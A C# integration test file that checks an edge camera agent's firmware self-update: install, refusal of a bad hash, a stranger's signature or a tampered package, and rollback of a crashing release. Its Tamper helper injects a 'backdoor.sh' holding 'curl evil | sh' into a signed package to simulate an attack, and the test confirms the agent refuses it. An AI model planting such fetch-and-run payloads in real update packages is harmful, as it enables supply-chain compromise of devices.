using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using EdgeCam.Agent.Cli;
using EdgeCam.Testing;
using EdgeCam.Testing.IotHub;
using EdgeCam.Testing.Mosquitto;
using Xunit.Abstractions;

namespace EdgeCam.Agent.Tests.Firmware;

/// <summary>
/// The agent updating itself end to end with real processes: a device installed by device/firmware/install.sh under
/// a temp root, release 1.0.0 started through the current link by a stand-in for systemd (guard, start, restart on
/// every exit), its device twin on the test IoT hub (Mosquitto), packages served by Azurite through a SAS URL.
/// </summary>
[Trait("Category", "Integration")]
public sealed class FirmwareUpdateTests : IClassFixture<FirmwareRig>, IDisposable
{
    private const string Key = "c2VjcmV0LWRldmljZS1rZXktZm9yLWVkZ2VjYW0tYWdlbnQ=";
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(90);
    private readonly FirmwareRig _rig;
    private readonly ITestOutputHelper _output;
    private readonly TempDirectory _device = new("firmware-device");

    public FirmwareUpdateTests(FirmwareRig rig, ITestOutputHelper output)
    {
        _rig = rig;
        _output = output;
    }

    public void Dispose() => _device.Dispose();

    [Fact]
    public async Task Update_GoodPackage_BecomesCurrentAndReportsHealthy()
    {
        await using var broker = await MosquittoBroker.StartAsync(CancellationToken.None);
        await using var iotHub = await TestIotHub.StartAsync(broker, null, CancellationToken.None);
        await using var device = await StartDeviceAsync(broker);
        await WaitForReportedAsync(iotHub, device, r => r.State == "healthy" && r.Version == "1.0.0");

        await iotHub.PatchDesiredAsync(_rig.Desired("2.0.0"), CancellationToken.None);
        var healthy = await WaitForReportedAsync(iotHub, device, r => r.State == "healthy" && r.Version == "2.0.0");

        _output.WriteLine($"dotnet publish of the agent (once per test class): {_rig.PublishTime.TotalSeconds:F1} s; package {new FileInfo(_rig.PackagePath("2.0.0")).Length / 1024} KiB");
        Assert.Equal("1.0.0", healthy.PreviousVersion);
        Assert.Equal("2.0.0", device.CurrentVersion());
        Assert.Equal(["healthy", "downloading", "verifying", "installing", "restarting", "healthy"], Reported(iotHub).Select(r => r.State));
        var runs = device.Runs;
        Assert.Equal(("1.0.0", ExitCodes.FirmwareSwitched), runs[0]);
        Assert.Equal("2.0.0", runs[1].Version);
        Assert.True(device.AgentRunning, device.Log);
        // The twin holds "healthy" as soon as the agent sent it; the agent confirms the trial once IoT Hub acknowledged it.
        await Eventually.TrueAsync(() => !File.Exists(Path.Combine(device.DataDirectory, "firmware", "pending")), "2.0.0 confirmed its trial (deleted pending)");
        Assert.Equal(["1.0.0", "2.0.0"], Directory.GetDirectories(Path.Combine(device.InstallRoot, "releases")).Select(Path.GetFileName).Order());
    }

    [Fact]
    public async Task Update_WrongSha256_BadSignatureOrTamperedPackage_IsRefusedWithOneLineAndNothingSwitches()
    {
        var good = File.ReadAllBytes(_rig.PackagePath("2.0.0"));
        var tampered = Tamper(good);
        var tamperedUrl = await _rig.UploadAsync("edgecam-agent-2.0.0-tampered.tar.gz", tampered);
        var cases = new (string Name, JsonObject Desired, string Expected)[]
        {
            ("wrong sha256", _rig.Desired("2.0.0", sha256: new string('a', 64)), $"sha256 mismatch: the twin says {new string('a', 64)}, the package downloaded is {Convert.ToHexStringLower(SHA256.HashData(good))}"),
            ("signed by a stranger", _rig.Desired("2.0.0", signature: FirmwareRig.Sign(_rig.StrangerPrivateKey, good)), "signature does not verify with the public key shipped in release 1.0.0"),
            ("tampered after signing", _rig.Desired("2.0.0", sha256: Convert.ToHexStringLower(SHA256.HashData(tampered)), url: tamperedUrl), "signature does not verify with the public key shipped in release 1.0.0"),
        };
        await using var broker = await MosquittoBroker.StartAsync(CancellationToken.None);
        await using var iotHub = await TestIotHub.StartAsync(broker, null, CancellationToken.None);
        await using var device = await StartDeviceAsync(broker);
        await WaitForReportedAsync(iotHub, device, r => r.State == "healthy" && r.Version == "1.0.0");

        foreach (var (name, desired, expected) in cases)
        {
            int before = Reported(iotHub).Count;
            await iotHub.PatchDesiredAsync(desired, CancellationToken.None);
            var refused = await WaitForReportedAsync(iotHub, device, r => r.State == "refused", skip: before);

            _output.WriteLine($"{name}: {refused.Message}");
            Assert.True(refused.Message.StartsWith(expected, StringComparison.Ordinal), $"{name}: {refused.Message}");
            Assert.DoesNotContain('\n', refused.Message);
            Assert.Equal(("2.0.0", "1.0.0"), (refused.TargetVersion, refused.Version));
            Assert.Equal(["downloading", "verifying", "refused"], Reported(iotHub).Skip(before).Select(r => r.State));
        }

        Assert.Equal("1.0.0", device.CurrentVersion());
        Assert.Equal(["1.0.0"], Directory.GetDirectories(Path.Combine(device.InstallRoot, "releases")).Select(Path.GetFileName));
        Assert.Empty(Directory.GetFiles(Path.Combine(device.DataDirectory, "firmware", "downloads")));
        Assert.False(File.Exists(Path.Combine(device.DataDirectory, "firmware", "pending")));
        Assert.Equal([("1.0.0", (int?)null)], device.Runs);
    }

    [Fact]
    public async Task Update_ReleaseThatCrashesAtStart_IsRolledBackAndTheTwinSaysSo()
    {
        await using var broker = await MosquittoBroker.StartAsync(CancellationToken.None);
        await using var iotHub = await TestIotHub.StartAsync(broker, null, CancellationToken.None);
        await using var device = await StartDeviceAsync(broker);
        await WaitForReportedAsync(iotHub, device, r => r.State == "healthy" && r.Version == "1.0.0");

        await iotHub.PatchDesiredAsync(_rig.Desired("3.0.0"), CancellationToken.None);
        var rolledBack = await WaitForReportedAsync(iotHub, device, r => r.State == "rolledBack");

        Assert.Equal(("1.0.0", "3.0.0", "3.0.0"), (rolledBack.Version, rolledBack.TargetVersion, rolledBack.PreviousVersion));
        Assert.Equal("release 3.0.0 did not report healthy after 3 starts; rolled back to 1.0.0", rolledBack.Message);
        Assert.Equal("1.0.0", device.CurrentVersion());
        Assert.Equal(["healthy", "downloading", "verifying", "installing", "restarting", "rolledBack"], Reported(iotHub).Select(r => r.State));
        var runs = device.Runs;
        Assert.Equal(["1.0.0", "3.0.0", "3.0.0", "3.0.0", "1.0.0"], runs.Select(r => r.Version));
        Assert.Equal(ExitCodes.FirmwareSwitched, runs[0].ExitCode);
        Assert.All(runs.Skip(1).Take(3), r => Assert.NotEqual(0, r.ExitCode));
        Assert.True(device.AgentRunning, device.Log);
    }

    private async Task<SystemdStandIn> StartDeviceAsync(MosquittoBroker broker)
    {
        var install = await ProcessRun.RunAsync(
            "bash",
            [Path.Combine(RequiredTool.RepositoryRoot(), "device", "firmware", "install.sh"), "--root", _device.Path, "--package", _rig.FirstPackage, "--template", _rig.Template],
            TimeSpan.FromSeconds(60));
        Assert.True(install.Code == 0, install.Output);
        var root = Path.Combine(_device.Path, "opt", "edgecam");
        return SystemdStandIn.Start(
            _device.Path,
            _device.Combine("agent.log"),
            "--template",
            _device.Combine("etc", "edgecam", "deployment.template.json"),
            "--data",
            _device.Combine("var", "lib", "edgecam"),
            "--firmware-root",
            root,
            "--connection-string",
            $"HostName=localhost;DeviceId=agent1;SharedAccessKey={Key}",
            "--port",
            broker.TlsPort.ToString(System.Globalization.CultureInfo.InvariantCulture),
            "--ca-file",
            broker.CaFile);
    }

    private async Task<FirmwareReport> WaitForReportedAsync(TestIotHub iotHub, SystemdStandIn device, Func<FirmwareReport, bool> condition, int skip = 0)
    {
        var deadline = DateTime.UtcNow + Patience;
        while (true)
        {
            if (Reported(iotHub).Skip(skip).FirstOrDefault(condition) is { } hit)
            {
                return hit;
            }

            if (DateTime.UtcNow > deadline)
            {
                _output.WriteLine(device.Log);
                Assert.Fail($"the twin did not show the expected firmware state within {Patience.TotalSeconds} s; reported: {string.Join(" | ", Reported(iotHub))}; runs: {string.Join(", ", device.Runs)}");
            }

            await Task.Delay(100);
        }
    }

    // Every firmware object the agent reported, in order.
    private static List<FirmwareReport> Reported(TestIotHub iotHub) =>
        [.. iotHub.Seen
            .Where(m => m.Topic.StartsWith("$iothub/twin/PATCH/properties/reported/", StringComparison.Ordinal))
            .Select(m => JsonNode.Parse(Encoding.UTF8.GetString(m.Payload.Span))?["firmware"])
            .OfType<JsonObject>()
            .Select(f => new FirmwareReport((string)f["state"]!, (string)f["version"]!, (string?)f["targetVersion"], (string?)f["previousVersion"], (string)f["message"]!))];

    // The good package with one more file: what someone who can write the blob (and the twin's sha256) could make.
    private static byte[] Tamper(byte[] package)
    {
        using var output = new MemoryStream();
        using (var gzipOut = new System.IO.Compression.GZipStream(output, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        using (var writer = new System.Formats.Tar.TarWriter(gzipOut))
        using (var input = new System.IO.Compression.GZipStream(new MemoryStream(package), System.IO.Compression.CompressionMode.Decompress))
        using (var reader = new System.Formats.Tar.TarReader(input))
        {
            while (reader.GetNextEntry(copyData: true) is { } entry)
            {
                writer.WriteEntry(entry);
            }

            writer.WriteEntry(new System.Formats.Tar.PaxTarEntry(System.Formats.Tar.TarEntryType.RegularFile, "backdoor.sh") { DataStream = new MemoryStream("curl evil | sh\n"u8.ToArray()) });
        }

        return output.ToArray();
    }

    private sealed record FirmwareReport(string State, string Version, string? TargetVersion, string? PreviousVersion, string Message);
}
